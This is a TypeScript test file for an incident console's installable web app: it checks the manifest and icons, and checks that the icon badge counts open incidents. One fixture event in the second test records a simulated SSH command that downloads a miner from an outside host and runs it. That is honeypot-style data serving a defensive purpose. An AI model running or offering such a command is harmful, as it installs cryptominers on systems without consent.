import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openConsole, until } from '../support/console/open.ts';

interface Manifest {
  start_url: string;
  scope: string;
  display: string;
  icons: { src: string; sizes: string; type: string; purpose?: string }[];
  shortcuts: { url: string }[];
}

/** Width and height of a PNG, which stand in its first chunk. */
const sizeOf = (png: Buffer): string => `${png.readUInt32BE(16)}x${png.readUInt32BE(20)}`;

describe('the console on a home screen', () => {
  it('can be installed: its manifest and icons are what they say', async (t) => {
    const lab = await openConsole(t, { events: [] });
    const page = await lab.open('/incidents', { width: 390, height: 844 });
    const browser = await page.context().newCDPSession(page);
    const found = await browser.send('Page.getAppManifest');
    assert.deepEqual(found.errors, []);
    assert.equal(found.url, `${lab.server.address}/console/manifest.webmanifest`);
    const { installabilityErrors } = await browser.send('Page.getInstallabilityErrors');
    // What a window without a profile cannot do is no fault of the page.
    assert.deepEqual(
      installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito'),
      [],
    );
    const manifest = JSON.parse(found.data ?? '') as Manifest;
    const at = (path: string): string => new URL(path, found.url).href;
    assert.equal(at(manifest.start_url), `${lab.server.address}/console/`);
    assert.equal(at(manifest.scope), `${lab.server.address}/console/`);
    assert.equal(manifest.display, 'standalone');
    assert.ok(manifest.icons.some(({ purpose }) => purpose === 'maskable'));
    for (const { src, sizes, type } of manifest.icons) {
      const icon = await fetch(at(src));
      assert.equal(icon.headers.get('content-type'), type, src);
      const bytes = Buffer.from(await icon.arrayBuffer());
      if (type === 'image/png') assert.equal(sizeOf(bytes), sizes, src);
    }
    for (const { url } of manifest.shortcuts)
      assert.equal(at(url), `${lab.server.address}/console/incidents`);
    const apple = await page.locator('link[rel=apple-touch-icon]').getAttribute('href');
    const touch = await fetch(new URL(apple ?? '', `${lab.server.address}/console/incidents`));
    assert.equal(sizeOf(Buffer.from(await touch.arrayBuffer())), '180x180');
    await lab.check(page);
  });

  it('has the number of open incidents on its icon', async (t) => {
    const lab = await openConsole(t, { events: [] });
    const page = await lab.open('/nodes');
    const badges: number[] = [];
    await page.exposeFunction('noteBadge', (count: number) => badges.push(count));
    await page.addInitScript(
      'Navigator.prototype.setAppBadge = (count) => { globalThis.noteBadge(count); return Promise.resolve(); };',
    );
    await page.reload();
    await until(async () => badges.at(-1) === 0);
    await lab.send([
      {
        service: 'ssh',
        source_ip: '203.0.113.77',
        activity: 'command',
        payload: 'wget http://203.0.113.80/miner -O /tmp/m; chmod +x /tmp/m; /tmp/m',
        timestamp: new Date().toISOString(),
        extra: { session: 's' },
      },
    ]);
    await until(async () => badges.at(-1) === 1);
    await lab.check(page);
  });
});
